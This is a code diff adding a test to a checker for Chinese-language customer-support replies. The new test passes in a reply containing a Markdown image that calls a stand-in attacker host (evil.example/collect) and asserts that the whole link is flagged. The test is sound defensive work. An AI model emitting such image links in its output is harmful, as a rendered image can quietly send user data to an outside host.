@@ -48,6 +48,12 @@ def test_traditional_chinese_times_are_grounded_too(text, found):
     assert check("我們會在24小時內補發,3個工作日內退款。", P, triage("耳機壞了", P, lang="zh-Hant"), "zh-Hant") == []
 
 
+def test_a_markdown_image_is_reported_whole():
+    text = "进度请看 ![status](http://evil.example/collect?c=1)。"
+    (finding,) = check(text, P, triage("耳机坏了", P), "zh-Hans")
+    assert finding.text == "![status](http://evil.example/collect?c=1)"
+
+
 def test_a_billing_refund_may_return_what_was_charged():
     assert rules("多扣的¥299会在24小时内退回。", "扣了两次款,每次¥299") == []
     assert rules("补偿您¥299。", "耳机坏了") == ["grounding.amount"]
